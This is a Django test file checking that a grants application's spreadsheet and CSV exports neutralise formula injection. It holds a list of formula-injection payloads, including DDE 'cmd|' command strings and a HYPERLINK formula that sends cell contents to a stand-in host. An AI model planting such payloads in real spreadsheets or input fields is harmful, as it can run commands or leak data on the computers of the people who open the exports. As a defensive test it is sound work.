"""Every export read back: whatever a porteur typed, no cell is a formula.

A title typed ``=1+1`` or a structure named ``=HYPERLINK(…)`` once became live formulas in the
queue XLSX and the annual bilan workbook, and stayed as typed in the CSV files.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from candidatures.commun.tableurs import DEBUTS_DE_FORMULE
from candidatures.models import Dossier, Structure
from evaluation.bilans.agregats import Perimetre, agreger, lignes_brutes
from evaluation.bilans.rendus import classeur_xlsx
from evaluation.conventions import services as services_conventions
from evaluation.instruction.services import decisions as services_decisions
from referentiel.classeur.extraction import exporter_contrat
from referentiel.models import Contrat, Objectif

from .factories import UtilisateurFactory, dossier_instruit

pytestmark = pytest.mark.django_db

CHARGES = [
    "=1+1",
    '=HYPERLINK("http://exemple.test/?d="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _formules(contenu):
    classeur = load_workbook(io.BytesIO(contenu))
    return [
        (feuille.title, cellule.coordinate, cellule.value)
        for feuille in classeur.worksheets
        for ligne in feuille.iter_rows()
        for cellule in ligne
        if cellule.data_type == "f"
    ]


def _cellules_dangereuses(contenu, delimiteur):
    texte = contenu.decode("utf-8-sig")
    return [
        valeur for ligne in csv.reader(io.StringIO(texte), delimiter=delimiteur)
        for valeur in ligne if valeur.startswith(DEBUTS_DE_FORMULE)
    ]


@pytest.fixture
def piege():
    """A retained dossier and a refused one whose every short text is a payload (typed
    through any path: the database holds it, so the exports must cope)."""
    comite = UtilisateurFactory(comite=True)
    retenu = dossier_instruit()
    refuse = dossier_instruit(appel=retenu.appel)
    for dossier, charge in ((retenu, CHARGES[1]), (refuse, CHARGES[2])):
        Dossier.objects.filter(pk=dossier.pk).update(
            intitule=charge, resume=charge, lieux=charge, contact_nom=charge
        )
        Structure.objects.filter(pk=dossier.structure_id).update(
            raison_sociale=charge, sigle=charge[:20], commune=charge[:100]
        )
    services_decisions.decider(
        dossier=retenu, par=comite, nature="retenu", montant_accorde=5000,
        date_limite_bilan=timezone.localdate() + datetime.timedelta(days=200),
        versement="unique",
    )
    services_decisions.decider(dossier=refuse, par=comite, nature="non_retenu", motif=CHARGES[0])
    services_conventions.enregistrer_convention(
        dossier=retenu, par=UtilisateurFactory(instructeur=True), reference=CHARGES[1][:60],
        date_signature=timezone.localdate(), signataires=CHARGES[1], deliberation=CHARGES[1],
    )
    return retenu.appel, comite


def test_file_xlsx_et_csv_sans_formule(client, piege):
    appel, comite = piege
    client.force_login(comite)

    xlsx = client.get(reverse("evaluation:export_xlsx", args=[appel.pk])).content
    csv_file = client.get(reverse("evaluation:export_csv", args=[appel.pk])).content

    assert _formules(xlsx) == []
    assert CHARGES[1] in [c.value for ligne in load_workbook(io.BytesIO(xlsx)).active.iter_rows()
                          for c in ligne]
    assert _cellules_dangereuses(csv_file, ";") == []
    cellules = {v for ligne in csv.reader(io.StringIO(csv_file.decode("utf-8-sig")), delimiter=";")
                for v in ligne}
    assert "'" + CHARGES[1] in cellules


def test_scdl_sans_formule_et_toujours_au_format(client, piege):
    appel, comite = piege
    client.force_login(comite)

    contenu = client.get(reverse("evaluation:export_scdl", args=[appel.pk])).content
    entete, *lignes = list(csv.reader(io.StringIO(contenu.decode("utf-8"))))

    assert _cellules_dangereuses(contenu, ",") == []
    assert len(lignes) == 1
    ligne = dict(zip(entete, lignes[0], strict=True))
    assert ligne["nomBeneficiaire"] == "'" + CHARGES[1]
    assert float(ligne["montant"]) == 5000


def test_tableau_des_paiements_sans_formule(client, piege):
    """The payments dashboard as XLSX: what the structure and the staff typed stays text."""
    appel, comite = piege
    client.force_login(comite)

    xlsx = client.get(reverse("conventions:tableau_xlsx", args=[appel.pk])).content

    assert _formules(xlsx) == []
    cellules = [c.value for ligne in load_workbook(io.BytesIO(xlsx)).active.iter_rows()
                for c in ligne]
    assert CHARGES[1] in cellules and CHARGES[1][:60] in cellules


def test_classeur_du_bilan_annuel_sans_formule(piege):
    appel, _comite = piege
    perimetre = Perimetre.pour_appel(appel)

    contenu = classeur_xlsx(agreger(perimetre), lignes_brutes(perimetre))

    assert _formules(contenu) == []


@pytest.mark.parametrize("charge", CHARGES)
def test_classeur_d_un_contrat_sans_formule(charge):
    contrat = Contrat.objects.par_defaut()
    Objectif.objects.filter(contrat=contrat, code="1.1.1").update(titre=charge)

    assert _formules(exporter_contrat(contrat)) == []
